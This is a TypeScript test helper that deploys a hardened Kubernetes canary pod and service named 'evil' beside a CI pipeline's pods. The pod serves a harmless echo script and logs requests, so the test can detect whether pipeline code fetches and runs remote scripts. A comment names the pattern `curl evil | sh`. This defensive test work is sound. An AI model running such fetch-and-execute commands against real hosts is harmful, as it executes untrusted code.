import type { Kubectl } from './kubectl';
import { podsReady } from './pods';
import { namespaces, type Settings } from './settings';

const namespace = namespaces.ci;
const name = 'evil';
const labels = { app: name };

/**
 * A web server with the name `evil` beside the pipeline's pods: who runs `curl evil | sh` there is seen by it, and
 * leaves the mark in its log. Policies of its own let every pod of the pipeline reach it, so that nobody is kept from
 * stepping into the trap by the pipeline's.
 */
export class Canary {
  /** What the script that it serves would print: no text of the script itself. */
  static readonly mark = 'executed-1764';

  private constructor(private readonly kubectl: Kubectl) {}

  static async start(kubectl: Kubectl, settings: Settings): Promise<Canary> {
    const serve = [
      'mkdir /tmp/www',
      "echo 'echo executed-$((42 * 42))' >/tmp/www/index.html",
      'exec httpd -f -vv -p 8080 -h /tmp/www',
    ];
    await kubectl.apply([
      {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name, namespace, labels },
        spec: {
          automountServiceAccountToken: false,
          enableServiceLinks: false,
          terminationGracePeriodSeconds: 0,
          securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: 'RuntimeDefault' } },
          containers: [
            {
              name,
              image: settings.images.busybox,
              imagePullPolicy: 'IfNotPresent',
              command: ['sh', '-c', serve.join(' && ')],
              readinessProbe: { tcpSocket: { port: 8080 }, periodSeconds: 1 },
              securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
              volumeMounts: [{ name: 'tmp', mountPath: '/tmp' }],
            },
          ],
          volumes: [{ name: 'tmp', emptyDir: {} }],
        },
      },
      {
        apiVersion: 'v1',
        kind: 'Service',
        metadata: { name, namespace, labels },
        spec: { selector: labels, ports: [{ port: 80, targetPort: 8080 }] },
      },
      ...policies,
    ]);
    await podsReady(kubectl, namespace, [name], settings.patience.trigger);
    return new Canary(kubectl);
  }

  /** Its address, from other namespaces. */
  readonly url = `http://${name}.${namespace}`;

  /** How many requests it has answered. */
  async requests(): Promise<number> {
    const log = await this.kubectl.run(['-n', namespace, 'logs', name]);
    return log.split('\n').filter((line) => /url:|response:200/.test(line)).length;
  }
}

const ports = [{ port: 8080, protocol: 'TCP' }];
const forge = { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespaces.forge } } };

/** Into the trap: for the pods of the pipeline, and for this test, which tries it. */
const policies = [
  policy(name, {
    podSelector: { matchLabels: labels },
    policyTypes: ['Ingress'],
    ingress: [{ from: [{ podSelector: {} }, forge], ports }],
  }),
  policy(`to-${name}`, {
    podSelector: {},
    policyTypes: ['Egress'],
    egress: [{ to: [{ podSelector: { matchLabels: labels } }], ports }],
  }),
];

function policy(name: string, spec: object): object {
  return { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name, namespace, labels }, spec };
}
